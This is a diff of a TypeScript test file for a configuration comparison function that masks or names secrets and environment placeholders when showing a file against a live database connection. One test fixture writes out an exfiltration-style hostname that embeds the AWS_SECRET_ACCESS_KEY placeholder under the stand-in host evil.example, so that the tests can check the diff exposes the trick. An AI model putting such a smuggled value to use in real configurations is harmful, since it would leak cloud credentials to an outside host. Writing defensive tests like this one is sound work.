@@ -14,22 +14,51 @@ const live: Connection = {
 };
 
 describe('Apply comparison', () => {
-  test('a file that matches the live connection is equal, whatever the secret (it cannot be compared)', () => {
+  test('a matching file is equal; a secret never sent from here is "not known", named by its placeholder, not masked', () => {
     const file = { id: 'c1', name: 'Warehouse', type: 'postgresql', configuration: { port: 5432, hostname: 'db.example.com', password: '${env:PG}' } };
     const c = compareWithLive(file, live, rule);
     assert.equal(c.equal, true);
-    assert.equal(c.fileText, c.liveText);
+    assert.deepEqual(c.unknown.map((u) => u.path), ['configuration.password']);
+    assert.match(c.fileText, /"password": "\$\{env:PG\}" \/\/ not known/);
+    assert.ok(!c.fileText.includes('****'), 'the placeholder is named, not masked');
+    assert.deepEqual(c.placeholders, [{ kind: 'env', name: 'PG', path: 'configuration.password' }]);
   });
 
-  test('a changed field shows on both sides; secrets stay masked on both, literal or placeholder', () => {
-    const file = { name: 'Warehouse', type: 'postgresql', configuration: { hostname: 'db2.example.com', password: 'hunter2-literal', port: 5432 } };
-    const c = compareWithLive(file, live, rule);
+  test('a secret changed since the last apply is a change, and says so on both sides', () => {
+    const file = { name: 'Warehouse', type: 'postgresql', configuration: { hostname: 'db.example.com', password: '${env:PG}', port: 5432 } };
+    const c = compareWithLive(file, live, rule, { resolved: { ...file.configuration, password: 'new' }, secretStatus: { 'configuration.password': 'changed' } });
     assert.equal(c.equal, false);
-    assert.match(c.fileText, /"hostname": "db2\.example\.com"/);
+    assert.deepEqual(c.changes, [{ path: 'configuration.password', note: 'changed since the last apply' }]);
+    assert.match(c.fileText, /"password": "\$\{env:PG\}", \/\/ changed since the last apply/);
+    assert.match(c.liveText, /"password": "\*{8}", \/\/ changed since the last apply/);
+    const same = compareWithLive(file, live, rule, { secretStatus: { 'configuration.password': 'unchanged' } });
+    assert.equal(same.equal, true);
+    assert.equal(same.fileText.replace(/^.*"id".*\n/m, ''), same.liveText.replace(/^.*"id".*\n/m, ''));
+  });
+
+  test('the file side is the file as written: comments and key order stay, a literal secret is masked; the live side follows its order', () => {
+    const text = '{\n  // the warehouse\n  "type": "postgresql",\n  "name": "Warehouse",\n  "configuration": {\n    "port": 5433, // moved\n    "password": "hunter2-literal",\n    "hostname": "db.example.com"\n  }\n}\n';
+    const file = { type: 'postgresql', name: 'Warehouse', configuration: { port: 5433, password: 'hunter2-literal', hostname: 'db.example.com' } };
+    const c = compareWithLive(file, live, rule, { fileText: text });
+    assert.equal(c.equal, false);
+    assert.ok(!c.fileText.includes('hunter2'));
+    assert.match(c.fileText, /\/\/ the warehouse\n {2}"type": "postgresql",\n {2}"name"/);
+    assert.match(c.fileText, /"port": 5433, \/\/ moved/);
+    assert.deepEqual(Object.keys(JSON.parse(c.liveText.replace(/\/\/.*$/gm, '')).configuration), ['port', 'password', 'hostname']);
+    assert.ok(c.changes.some((x) => x.path === 'configuration.port' && x.note === '5432 → 5433'));
+  });
+
+  test('a placeholder in a field the API returns in clear is compared by its value and named, never masked', () => {
+    // The attack of a file from elsewhere: ${env:ANY} in a hostname. The diff must show the name, not ********.
+    const file = { name: 'Warehouse', type: 'postgresql', configuration: { hostname: '${env:AWS_SECRET_ACCESS_KEY}.evil.example', password: '${env:PG}', port: 5432 } };
+    const c = compareWithLive(file, live, rule, { resolved: { ...file.configuration, hostname: 'AKIA-secret.evil.example' } });
+    assert.equal(c.equal, false);
+    assert.match(c.fileText, /"hostname": "\$\{env:AWS_SECRET_ACCESS_KEY\}\.evil\.example"/);
     assert.match(c.liveText, /"hostname": "db\.example\.com"/);
-    assert.ok(!c.fileText.includes('hunter2'), 'the literal secret is masked on the file side');
-    assert.match(c.fileText, /"password": "\*{8}"/);
-    assert.match(c.liveText, /"password": "\*{8}"/);
+    assert.ok(!c.fileText.includes('AKIA') && !c.liveText.includes('AKIA'));
+    assert.ok(c.placeholders.some((p) => p.name === 'AWS_SECRET_ACCESS_KEY' && p.path === 'configuration.hostname'));
+    const unresolved = compareWithLive(file, live, rule, { missing: new Set(['configuration.hostname']) });
+    assert.ok(unresolved.unknown.some((u) => u.path === 'configuration.hostname' && /not set yet/.test(u.note)));
   });
 
   test('nested secrets (no schema flag) are masked by name, and fields only one side has still show', () => {
@@ -40,6 +69,7 @@ describe('Apply comparison', () => {
     assert.ok(!c.fileText.includes('other'));
     assert.match(c.fileText, /"body": "\{\}"/);
     assert.ok(!c.liveText.includes('"body"'));
+    assert.ok(c.changes.some((x) => x.path === 'configuration.auth.basic.password' && x.note === 'changed since the last apply'));
   });
 
   test('optional envelope fields are compared only when the file sets them', () => {
